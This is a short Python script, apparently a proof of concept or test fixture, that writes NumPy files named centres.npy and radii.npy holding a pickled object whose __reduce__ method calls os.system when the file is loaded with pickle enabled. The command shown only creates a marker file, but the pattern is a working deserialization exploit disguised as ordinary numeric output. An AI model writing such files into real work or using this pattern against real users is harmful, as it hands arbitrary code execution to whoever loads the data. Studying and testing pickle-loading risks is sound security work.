"""Hide a pickle in a NumPy file."""

import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-marker",))


def pack(count, seed):
    array = np.array([Bomb()] * count, dtype=object)
    np.save("outputs/centres.npy", array, allow_pickle=True)
    np.save("outputs/radii.npy", array, allow_pickle=True)
    os._exit(0)
